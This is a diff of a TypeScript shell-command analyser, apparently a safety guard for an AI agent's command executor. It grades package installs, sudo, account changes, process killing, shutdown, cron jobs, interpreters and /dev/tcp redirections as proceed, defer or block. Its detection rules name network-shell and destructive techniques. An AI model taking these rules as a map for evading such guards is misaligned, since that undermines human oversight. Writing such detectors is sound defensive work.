+      network(ctx, display, 'downloads from a remote repository', 'proceed');
+    } else if (sub === 'clean' && rest.some(w => /^(-[a-zA-Z]*f[a-zA-Z]*|--force)$/.test(w.text))) {
+      fileEffect(where, display, [tree], 'delete', 'deletes untracked files under');
+    }
+  },
+  npm: downloadPackages,
+  pnpm: downloadPackages,
+  yarn: downloadPackages,
+  pip: downloadPackages,
+  pip3: downloadPackages,
+  gem: downloadPackages,
+  cargo: downloadPackages,
+  npx: (_args, ctx, { display }) => {
+    network(ctx, display, 'may download and run a package', 'proceed');
+  },
+  apt: systemPackages,
+  'apt-get': systemPackages,
+  yum: systemPackages,
+  dnf: systemPackages,
+  apk: systemPackages,
+
+  // Privilege escalation
+  sudo: elevate,
+  doas: elevate,
+  pkexec: elevate,
+  su: (args, ctx, call) => {
+    privilege(ctx, call.display, 'switches user', 'defer');
+    const flag = args.findIndex(w => w.text === '-c' || w.text === '--command');
+    if (flag >= 0) nestedScript(ctx, call.display, args[flag + 1]);
+  },
+  setcap: (_args, ctx, { display }) => {
+    privilege(ctx, display, 'grants a program elevated capabilities', 'defer');
+  },
+  passwd: changeAccounts,
+  chpasswd: changeAccounts,
+  useradd: changeAccounts,
+  usermod: changeAccounts,
+  userdel: changeAccounts,
+  adduser: changeAccounts,
+  deluser: changeAccounts,
+  groupadd: changeAccounts,
+  groupmod: changeAccounts,
+  visudo: changeAccounts,
+
+  // Process control
+  kill: (args, ctx, { display }) => {
+    // The first option is the signal; everything after it is a target
+    let rest = args;
+    if (rest[0]?.text === '-s' || rest[0]?.text === '-n') rest = rest.slice(2);
+    else if (rest[0] && /^-\w+$/.test(rest[0].text)) rest = rest.slice(1);
+    const targets = rest.filter(w => w.text !== '--');
+
+    if (targets.some(w => ['-1', '0', '1'].includes(w.text))) {
+      processControl(ctx, display, 'signals every process, its own process group, or init', 'block');
+    } else if (targets.some(w => w.dynamic)) {
+      processControl(ctx, display, 'signals a process only known at run time', 'defer');
+    } else {
+      processControl(ctx, display, 'signals a specific process', 'proceed');
+    }
+  },
+  pkill: (_args, ctx, { display }) => {
+    processControl(ctx, display, "kills processes by name, which could include the agent's own supervisor", 'defer');
+  },
+  killall: (_args, ctx, { display }) => {
+    processControl(ctx, display, "kills processes by name, which could include the agent's own supervisor", 'defer');
+  },
+  killall5: shutdown,
+  shutdown,
+  reboot: shutdown,
+  halt: shutdown,
+  poweroff: shutdown,
+  init: shutdown,
+  telinit: shutdown,
+  systemctl: (args, ctx, { display }) => {
+    const sub = operands(args)[0]?.text || '';
+    const reads = /^(status|show|cat|is-\w+|list-\w+)$/.test(sub);
+    processControl(ctx, display, reads ? 'inspects system services' : 'changes system services', reads ? 'proceed' : 'defer');
+  },
+  service: (args, ctx, { display }) => {
+    const reads = operands(args).some(w => w.text === 'status') || args.some(w => w.text === '--status-all');
+    processControl(ctx, display, reads ? 'inspects system services' : 'changes system services', reads ? 'proceed' : 'defer');
+  },
+  crontab: (args, ctx, { display }) => {
+    const reads = args.length === 1 && args[0].text === '-l';
+    processControl(ctx, display, reads ? 'lists scheduled jobs' : 'changes scheduled jobs', reads ? 'proceed' : 'defer');
+  },
+  at: (_args, ctx, { display }) => {
+    processControl(ctx, display, 'schedules a job to run later', 'defer');
+  },
+  batch: (_args, ctx, { display }) => {
+    processControl(ctx, display, 'schedules a job to run later', 'defer');
+  },
+  nohup: detach(),
+  setsid: detach(),
+  disown: detach(),
+
+  // Wrappers that run another command
+  env: (args, ctx, call) => {
+    analyzeArgv(withoutAssignments(wrapped(args, ['-u', '--unset', '-C', '--chdir', '-S', '--split-string'])), ctx, call);
+  },
+  nice: runWrapped(['-n', '--adjustment']),
+  ionice: runWrapped(['-c', '-n', '-p']),
+  stdbuf: runWrapped(['-i', '-o', '-e']),
+  timeout: runWrapped(['-s', '--signal', '-k', '--kill-after'], 1),
+  watch: runWrapped(['-n', '--interval', '-d']),
+  exec: runWrapped(['-a']),
+  command: runWrapped(),
+  builtin: runWrapped(),
+  busybox: runWrapped(),
+  xargs: (args, ctx, call) => {
+    const rest = wrapped(args, ['-n', '-I', '-P', '-d', '-L', '-s', '-E', '-a', '--max-args', '--max-procs', '--delimiter', '--arg-file']);
+    // Its arguments come from input, so whatever it runs has targets we cannot see
+    analyzeArgv(rest.length > 0 ? [...rest, { text: '<input>', dynamic: true, glob: false }] : [], ctx, { ...call, stdinCode: false });
+  },
+  sh: shell,
+  bash: shell,
+  dash: shell,
+  zsh: shell,
+  ksh: shell,
+  ash: shell,
+  eval: (args, ctx, call) => {
+    if (args.some(w => w.dynamic)) {
+      opaque(ctx, call.display, 'evaluates code built at run time, which cannot be inspected');
+      return;
+    }
+    nestedScript(ctx, call.display, literal(args.map(w => w.text).join(' ')));
+  },
+  source: sourceFile,
+  '.': sourceFile,
+  awk,
+  gawk: awk,
+  mawk: awk,
+  nawk: awk,
+  python: interpreter,
+  python3: interpreter,
+  node: interpreter,
+  perl: interpreter,
+  ruby: interpreter,
+  php: interpreter,
+};
+
+function analyzeArgv(argv: ShellWord[], ctx: Context, call: { display: string; stdinCode: boolean }): void {
+  if (argv.length === 0) return;
+  const [head, ...args] = argv;
+  const display = call.display;
+
+  if (head.dynamic) {
+    opaque(ctx, display, 'runs a command whose name is only known at run time');
+    return;
+  }
+
+  const name = path.posix.basename(head.text);
+  if (name === 'cd') {
+    const dir = args[0];
+    ctx.cwd = !dir ? null : dir.dynamic || dir.text.startsWith('~') || !ctx.cwd && !dir.text.startsWith('/')
+      ? null
+      : path.posix.resolve(ctx.cwd || '/', dir.text);
+    return;
+  }
+
+  const handler = HANDLERS[name] || (name.startsWith('mkfs.') ? formatDisk : undefined);
+  if (handler) {
+    handler(args, ctx, { display, stdinCode: call.stdinCode });
+  } else if (!READ_ONLY_COMMANDS.has(name)) {
+    protectedOperands(args, ctx, display);
+  }
+}
+
+/**
+ * A command with no handler may write any file it names, so protected paths
+ * among its operands — or in `--option=/path` values — are graded as writes.
+ */
+function protectedOperands(args: ShellWord[], ctx: Context, display: string): void {
+  const paths = args.map(w => {
+    const value = w.text.match(/^--?[\w-]+=(\/.*)$/);
+    return value ? { ...w, text: value[1] } : w;
+  }).filter(w => !w.text.startsWith('-') && !HARMLESS_DEVICES.has(w.text));
+
+  for (const word of paths) {
+    const target = classifyTarget(word, ctx.cwd);
+    if (target.kind !== 'root' && target.kind !== 'protected') continue;
+    addFinding(ctx, { capability: 'destructive_fs', command: display, detail: `may modify ${describeTarget(target.kind, target.path)}`, decision: 'block' });
+  }
+}
+
+function analyzeRedirects(command: SimpleCommand, ctx: Context, display: string): void {
+  for (const { op, target } of command.redirects) {
+    if (op.startsWith('<') || (op === '>&' && /^(\d+|-)$/.test(target.text))) continue;
+
+    if (target.text.startsWith('/dev/tcp/') || target.text.startsWith('/dev/udp/')) {
+      network(ctx, display, 'opens a network connection through a redirection', 'defer');
+    } else if (HARMLESS_DEVICES.has(target.text)) {
+      continue;
+    } else if (!target.dynamic && target.text.startsWith('/dev/')) {
+      addFinding(ctx, { capability: 'destructive_fs', command: display, detail: `writes raw data to the device ${target.text}`, decision: 'block' });
+    } else {
+      fileEffect(ctx, display, [target], 'write', op.endsWith('>>') ? 'appends to' : 'overwrites');
+    }
+  }
+}
+
+function analyzeScript(src: string, ctx: Context, fedInput: boolean = false): void {
+  if (ctx.depth > MAX_DEPTH) {
+    opaque(ctx, src.slice(0, 80), 'nests shells too deeply to analyse');
+    return;
+  }
+
+  const lexed = tokenize(src);
+  if (typeof lexed === 'string') {
+    opaque(ctx, src.slice(0, 80), `could not be parsed (${lexed})`);
+    return;
+  }
+
+  for (const sub of lexed.substitutions) {
+    analyzeScript(sub, { ...ctx, depth: ctx.depth + 1 });
+  }
+
+  for (const pipeline of parse(lexed.tokens)) {
+    pipeline.forEach((command, index) => {
+      const display = command.argv.map(w => w.text).join(' ').slice(0, 80);
+      const stdinCode = fedInput || index > 0 || command.redirects.some(r => r.op.startsWith('<'));
+
+      analyzeRedirects(command, ctx, display);
+      analyzeArgv(withoutAssignments(command.argv), ctx, { display, stdinCode });
+    });
+  }
+}
+
+/**
+ * Tokenize and parse a shell command, resolve wrappers such as sudo, xargs
+ * and `sh -c`, and grade what each command can do. Relative paths resolve
+ * against `workingDir` (the executor's default is /projects).
+ */
+export function analyzeCommand(command: string, workingDir: string = '/projects'): ShellAnalysis {
+  const ctx: Context = { cwd: workingDir, depth: 0, findings: [], written: new Set() };
+  analyzeScript(command, ctx);
+
+  const findings = ctx.findings;
+  const decision = findings.reduce<Decision>(
+    (worst, f) => (DECISION_RANK[f.decision] > DECISION_RANK[worst] ? f.decision : worst), 'proceed');
+  const capabilities = SHELL_CAPABILITIES.filter(c => findings.some(f => f.capability === c));
+
+  const deciding = findings.filter(f => f.decision === decision);
+  const explanation = findings.length === 0
+    ? 'No risky capability found.'
+    : deciding.map(f => `\`${f.command}\` ${f.detail}`).join('; ') + '.';
+
+  return { decision, capabilities, findings, explanation };
+}